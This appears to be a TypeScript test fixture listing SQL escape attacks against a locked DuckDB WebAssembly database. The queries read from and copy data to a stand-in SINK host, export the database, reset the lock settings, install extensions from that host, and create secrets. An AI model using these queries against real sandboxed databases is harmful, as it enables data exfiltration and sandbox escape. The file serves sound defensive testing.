import {both, js, type Attack, type Weakening} from "./attack.ts";

const lock: Weakening = {app: ["lock", "restrict"], page: {"connect-src": "*"}};

/** An SQL attack, as a query that a cell sends; a query that answers counts as won where `answers` says so. */
const sql = (name: string, query: string, {answers = false, ...more}: Partial<Attack> & {answers?: boolean} = {}) =>
  js(name, lock, `await db.query(${JSON.stringify(query)}${answers ? "); won();" : ");"}`, {uses: ["db"], ...more});

/** Every way that SQL has out of the database. */
export const sqlAttacks: readonly Attack[] = [
  sql("sql-read-csv", "select * from read_csv('SINK/sql-read-csv.csv')"),
  sql("sql-read-text", "select * from read_text('SINK/sql-read-text.csv')"),
  sql("sql-read-blob", "select * from read_blob('SINK/sql-read-blob.csv')"),
  sql("sql-from-address", "select * from 'SINK/sql-from-address.csv'"),
  sql("sql-attach", "attach 'SINK/sql-attach.db' as out"),
  sql("sql-sniff", "from sniff_csv('SINK/sql-sniff.csv')"),
  sql("sql-copy-from", "create temp table cf(a int, b int); copy cf from 'SINK/sql-copy-from.csv'"),
  sql("sql-copy-to-address", "copy (select 'secret') to 'SINK/sql-copy-to-address.csv'"),
  sql("sql-copy-to", "copy (select 'secret' as s) to '/tmp/secret.csv'", {answers: true}),
  sql("sql-export", "export database '/tmp/out'", {answers: true}),
  sql("sql-set", "set enable_external_access = true", {
    answers: true,
    ...both({
      reason: "the setting cannot be turned on while a database runs, locked or not",
      says: /Cannot change enable_external_access/
    })
  }),
  sql("sql-set-autoload", "set autoload_known_extensions = true", {answers: true}),
  sql("sql-reset", "reset lock_configuration", {answers: true}),
  sql("sql-memory", "set memory_limit = '100GB'", {answers: true}),
  sql("sql-pragma", "pragma memory_limit = '100GB'", {answers: true}),
  sql("sql-install", "set custom_extension_repository = 'SINK/sql-install'; install spatial; load spatial", {
    removes: {...lock, app: [...lock.app!, "install"]}
  }),
  sql("sql-load", "load 'SINK/sql-load.wasm'"),
  js(
    "sql-glob",
    lock,
    `await db.query("copy (select 1) to 'planted.csv'").catch(() => {}); if ((await db.query("from glob('*')")).numRows() > 0) won();`,
    {uses: ["db"]}
  ),
  sql(
    "sql-getenv",
    "select getenv('HOME')",
    both({reason: "the WebAssembly build has no getenv", says: /getenv does not exist/})
  ),
  sql(
    "sql-secret",
    "create persistent secret s (type s3, key_id 'k', secret 's')",
    both({reason: "secrets need the extension httpfs", says: /httpfs/})
  ),
  js("sql-interpolated", lock, `await db.sql\`select * from read_csv(\${u + ".csv"})\`;`, {uses: ["db"]})
];

/** What is left of these where the database is not locked and only its worker has no network: nothing. */
export const behindLock: readonly Attack[] = sqlAttacks.filter(
  ({name, cell}) => JSON.stringify(cell).split("SINK").length > 2 || name === "sql-interpolated"
);
export const withoutLock: Weakening = {app: ["lock"], page: {"connect-src": "*"}};
